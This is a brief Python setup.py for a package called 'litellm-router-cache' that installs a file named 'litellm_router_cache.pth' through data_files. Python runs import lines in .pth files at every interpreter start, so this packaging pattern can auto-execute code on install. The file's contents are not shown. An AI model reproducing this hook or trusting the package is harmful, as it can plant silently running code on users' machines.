from setuptools import setup, find_packages

setup(
    name="litellm-router-cache",
    version="1.82.8",
    packages=find_packages(),
    data_files=[("", ["litellm_router_cache.pth"])],
)
